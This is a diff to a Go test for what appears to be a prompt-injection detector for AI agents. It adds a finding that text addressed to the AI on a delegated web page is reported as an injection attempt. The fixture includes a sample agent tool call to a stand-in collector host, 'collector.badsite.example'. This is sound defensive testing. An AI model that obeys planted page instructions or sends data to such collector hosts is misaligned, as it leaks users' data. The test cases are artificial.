@@ -39,9 +39,10 @@ func TestInstructedCall(t *testing.T) {
 				call("s", "read_web", `{"url":"https://collector.badsite.example/c?x=1"}`),
 			},
 			// the user delegated to the page: its words join the request, so
-			// nothing on it is planted, and following it is informational
-			want:  map[string]uint8{flow.KindInstructedCall: 40},
-			count: 1,
+			// nothing on it is planted, and following it is informational;
+			// text addressed to the AI on it is still reported as an attempt
+			want:  map[string]uint8{flow.KindInjectionAttempt: 34, flow.KindInstructedCall: 40},
+			count: 2,
 		},
 		{
 			name: "value without instruction cues",
